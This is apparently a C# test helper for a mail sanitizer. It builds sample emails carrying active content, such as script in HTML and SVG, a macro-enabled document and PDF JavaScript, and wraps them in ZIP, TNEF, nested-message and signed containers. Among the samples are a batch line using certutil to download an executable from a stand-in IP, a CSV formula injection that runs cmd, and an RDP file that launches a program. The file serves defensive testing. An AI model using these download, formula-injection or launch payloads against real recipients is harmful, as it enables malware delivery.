using System.Buffers.Binary;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Security.Cryptography.Pkcs;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using MimeKit;

namespace MailSanitizer.Tests.Pipeline;

/// <summary>A file with something that acts, and the words by which one finds it.</summary>
internal sealed record ActiveItem(string Name, string MediaType, byte[] Bytes, string Mark);

/// <summary>A sample of the table of active content, and the containers that it comes in; made here, without the product's code.</summary>
internal static class ActiveItems
{
    public static readonly IReadOnlyList<ActiveItem> All =
    [
        Text("page.html", "text/html", "<html><body><p>Hello</p><script>dropper()</script></body></html>", "dropper()"),
        Text("drawing.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"dropper()\"><rect width=\"9\" height=\"9\"/></svg>", "dropper()"),
        Text("run.js", "text/javascript", "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", "WScript.Shell"),
        Text("run.bat", "application/octet-stream", "@echo off\r\ncertutil -urlcache -f http://192.0.2.1/x x.exe\r\n", "certutil"),
        Text("table.csv", "text/csv", "name,sum\n=cmd|'/c calc'!A0,1\n", "\n=cmd|"),
        Text("meeting.ics", "text/calendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//x//EN\r\nBEGIN:VEVENT\r\nUID:1@x\r\nDTSTAMP:20261124T000000Z\r\nDTSTART:20261125T000000Z\r\nSUMMARY:Lunch\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:TVqQAAMAAAA=\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "ENCODING=BASE64"),
        Text("letter.rtf", "application/rtf", "{\\rtf1\\ansi Hello {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050}} there\\par}", "\\objdata"),
        Text("server.rdp", "application/x-rdp", "full address:s:192.0.2.1\r\nremoteapplicationprogram:s:||calc\r\n", "full address:s:"),
        Text("form.pdf", "application/pdf", Pdf(), "/JavaScript"),
        new("orders.docm", "application/vnd.ms-word.document.macroEnabled.12", Document(macro: true, null), "vbaProject.bin"),
    ];

    /// <summary>Containers by name: each makes a whole mail around an item.</summary>
    public static readonly IReadOnlyList<(string Name, Func<ActiveItem, string> Mail)> Containers =
    [
        ("attachment", item => Mixed(Part(item.Name, item.MediaType, item.Bytes))),
        ("body alternative", item => Mail("multipart/alternative; boundary=b", "--b\r\nContent-Type: text/plain\r\n\r\nHello.\r\n--b\r\n" + Part(null, item.MediaType, item.Bytes) + "--b--\r\n")),
        ("ZIP", item => Mixed(Part("files.zip", "application/zip", Zip((item.Name, item.Bytes), ("readme.txt", "Hello."u8.ToArray()))))),
        ("mail in the mail", item => Mixed("Content-Type: message/rfc822\r\n\r\n" + Mixed(Part(item.Name, item.MediaType, item.Bytes)))),
        ("TNEF", item => Mixed(Part("winmail.dat", "application/ms-tnef", Tnef(item.Name, item.Bytes)))),
        ("CMS signed", item => Mail("application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64", Lines(Signed(Encoding.Latin1.GetBytes(Part(item.Name, item.MediaType, item.Bytes)))))),
        ("package in a docx", item => Mixed(Part("report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Document(macro: false, item)))),
    ];

    /// <summary>Every name and every decoded byte of a mail that another reader than ours finds, as Latin-1.</summary>
    public static string Seen(string mail)
    {
        StringBuilder seen = new();
        using MemoryStream bytes = new(Encoding.Latin1.GetBytes(mail));
        using MimeMessage message = MimeMessage.Load(bytes);
        Look(message.Body, seen, 0);
        return seen.ToString();
    }

    private static void Look(MimeEntity? entity, StringBuilder seen, int depth)
    {
        Assert.True(depth < 20);
        switch (entity)
        {
            case Multipart multipart:
                foreach (MimeEntity child in multipart) Look(child, seen, depth + 1);
                break;
            case MessagePart inner:
                Look(inner.Message?.Body, seen, depth + 1);
                break;
            case MimeKit.Tnef.TnefPart tnef:
                foreach (MimeEntity child in tnef.ExtractAttachments()) Look(child, seen, depth + 1);
                break;
            case MimePart part:
                using (MemoryStream decoded = new())
                {
                    part.Content?.DecodeTo(decoded);
                    Look(part.FileName ?? "", decoded.ToArray(), seen, depth + 1);
                }

                break;
        }
    }

    private static void Look(string name, byte[] bytes, StringBuilder seen, int depth)
    {
        seen.Append(name).Append('\n').Append(Encoding.Latin1.GetString(bytes)).Append('\n');
        if (bytes.AsSpan().StartsWith("PK\u0003\u0004"u8))
        {
            using ZipArchive zip = new(new MemoryStream(bytes));
            foreach (ZipArchiveEntry entry in zip.Entries)
            {
                using MemoryStream content = new();
                using (Stream open = entry.Open()) open.CopyTo(content);
                Look(entry.FullName, content.ToArray(), seen, depth + 1);
            }
        }
        else if (name.EndsWith(".p7m", StringComparison.Ordinal) && bytes.Length > 0)
        {
            SignedCms cms = new();
            cms.Decode(bytes);
            using MemoryStream inner = new(cms.ContentInfo.Content);
            Look(MimeEntity.Load(inner), seen, depth + 1);
        }
    }

    private static ActiveItem Text(string name, string type, string text, string mark) => new(name, type, Encoding.Latin1.GetBytes(text), mark);

    private static string Mail(string type, string body) => $"From: sender@sender.example\r\nTo: a@example.jp\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: {type}\r\n\r\n{body}";

    // A mail in a mail has a boundary of its own.
    private static string Mixed(string part)
    {
        string line = part.StartsWith("Content-Type: message/rfc822", StringComparison.Ordinal) ? "outer" : "inner";
        return Mail($"multipart/mixed; boundary={line}", $"--{line}\r\nContent-Type: text/plain\r\n\r\nHello.\r\n--{line}\r\n{part}--{line}--\r\n");
    }

    private static string Part(string? name, string type, byte[] bytes) =>
        $"Content-Type: {type}{(name is null ? "" : $"; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"")}\r\nContent-Transfer-Encoding: base64\r\n\r\n{Lines(bytes)}";

    private static string Lines(byte[] bytes) => Convert.ToBase64String(bytes, Base64FormattingOptions.InsertLineBreaks) + "\r\n";

    private static byte[] Zip(params (string Name, byte[] Bytes)[] members)
    {
        using MemoryStream stream = new();
        using (ZipArchive zip = new(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach ((string name, byte[] bytes) in members)
            {
                using Stream entry = zip.CreateEntry(name).Open();
                entry.Write(bytes);
            }
        }

        return stream.ToArray();
    }

    private static byte[] Document(bool macro, ActiveItem? package)
    {
        string extension = package is null ? "" : Path.GetExtension(package.Name)[1..];
        const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        string main = macro ? "application/vnd.ms-word.document.macroEnabled.main+xml" : "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
        List<(string, byte[])> members =
        [
            ("[Content_Types].xml", Utf8($"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>{(macro ? "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>" : "")}{(package is null ? "" : $"<Default Extension=\"{extension}\" ContentType=\"{package.MediaType}\"/>")}<Override PartName=\"/word/document.xml\" ContentType=\"{main}\"/></Types>")),
            ("_rels/.rels", Utf8($"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"{Office}/officeDocument\" Target=\"word/document.xml\"/></Relationships>")),
            ("word/document.xml", Utf8("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>")),
        ];
        if (macro)
        {
            members.Add(("word/_rels/document.xml.rels", Utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>")));
            members.Add(("word/vbaProject.bin", Utf8("a project")));
        }

        if (package is not null)
        {
            members.Add(("word/_rels/document.xml.rels", Utf8($"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"{Office}/package\" Target=\"embeddings/{package.Name}\"/></Relationships>")));
            members.Add(($"word/embeddings/{package.Name}", package.Bytes));
        }

        return Zip([.. members]);
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Pdf()
    {
        StringBuilder pdf = new("%PDF-1.4\n");
        List<int> offsets = [];
        foreach (string body in (string[])["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"])
        {
            offsets.Add(pdf.Length);
            pdf.Append(System.Globalization.CultureInfo.InvariantCulture, $"{offsets.Count} 0 obj\n{body}\nendobj\n");
        }

        int table = pdf.Length;
        pdf.Append("xref\n0 5\n0000000000 65535 f \n");
        foreach (int offset in offsets) pdf.Append(System.Globalization.CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        return pdf.Append(System.Globalization.CultureInfo.InvariantCulture, $"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n").ToString();
    }

    // MS-OXTNEF 2.1: signature, key, then attributes of level, id, length, data and checksum.
    private static byte[] Tnef(string name, byte[] bytes)
    {
        using MemoryStream stream = new();
        Span<byte> number = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32LittleEndian(number, 0x223E9F78);
        stream.Write(number);
        stream.Write([1, 0]);
        Attribute(1, 0x00089006, [0, 0, 1, 0]);
        Attribute(1, 0x00069007, [0xE4, 4, 0, 0, 0, 0, 0, 0]);
        Attribute(2, 0x00069002, [1, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0x20, 0, 0x20, 0, 0, 0, 0, 0]);
        Attribute(2, 0x00018010, [.. Encoding.ASCII.GetBytes(name), 0]);
        Attribute(2, 0x0006800F, bytes);
        return stream.ToArray();

        void Attribute(byte level, uint id, byte[] content)
        {
            Span<byte> word = stackalloc byte[4];
            stream.WriteByte(level);
            BinaryPrimitives.WriteUInt32LittleEndian(word, id);
            stream.Write(word);
            BinaryPrimitives.WriteInt32LittleEndian(word, content.Length);
            stream.Write(word);
            stream.Write(content);
            BinaryPrimitives.WriteUInt16LittleEndian(word, (ushort)content.Sum(one => one));
            stream.Write(word[..2]);
        }
    }

    private static byte[] Signed(byte[] entity)
    {
        using RSA key = RSA.Create(2048);
        CertificateRequest request = new("CN=sender", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        using X509Certificate2 certificate = request.CreateSelfSigned(new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.Zero), new DateTimeOffset(2036, 1, 1, 0, 0, 0, TimeSpan.Zero));
        SignedCms cms = new(new ContentInfo(entity));
        cms.ComputeSignature(new CmsSigner(certificate));
        return cms.Encode();
    }
}
